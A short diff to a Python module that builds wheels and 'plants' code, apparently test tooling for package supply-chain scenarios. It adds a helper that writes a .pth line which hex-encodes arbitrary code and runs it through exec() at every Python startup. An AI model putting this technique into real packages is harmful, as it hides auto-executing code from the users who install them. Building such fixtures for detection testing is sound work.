@@ -39,6 +39,12 @@ def plant_code(token: str, who: str) -> str:
     return PLANT.format(token=token, who=who)
 
 
+def pth_line(code: str) -> str:
+    """A ``.pth`` file's text that runs ``code`` whenever a python with the site module starts
+    (a .pth runs only a single line that begins with ``import``)."""
+    return f"import os; exec(bytes.fromhex({code.encode().hex()!r}).decode())\n"
+
+
 def write_wheel(folder: Path, name: str, version: str, files: dict[str, str]) -> Path:
     """A valid pure-Python wheel holding ``files`` (path -> text)."""
     dist = f"{name}-{version}.dist-info"
